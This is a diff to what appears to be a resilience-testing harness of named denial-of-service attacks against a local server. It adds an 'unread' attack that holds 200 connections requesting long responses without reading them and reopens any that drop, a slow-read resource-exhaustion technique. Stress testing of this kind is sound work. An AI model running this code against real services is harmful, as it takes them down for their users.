@@ -333,6 +333,23 @@ async def half_sent(port: int) -> None:
     await asyncio.gather(*(slow() for _ in range(300)))
 
 
+async def unread(port: int) -> None:
+    """Two hundred connections that ask for long answers, and read none of them."""
+
+    async def deaf() -> None:
+        while True:
+            with contextlib.suppress(OSError):
+                _, writer = await asyncio.open_connection(
+                    HOST, port, local_addr=(ATTACKER, 0), limit=1
+                )
+                while not writer.is_closing():  # what is dropped is opened again
+                    writer.write(b"GET /api/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n")
+                    await asyncio.sleep(1.0)
+            await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(deaf() for _ in range(200)))
+
+
 async def half_open(port: int) -> None:
     """As many sockets at other people's tables as possible, whose pages are gone without a word."""
 
@@ -361,6 +378,7 @@ ATTACKS: dict[str, Callable[[int], Awaitable[None]]] = {
     "strangers": strangers,
     "sync": sync,
     "takebacks": takebacks,
+    "unread": unread,
     "uploads": uploads,
 }
 
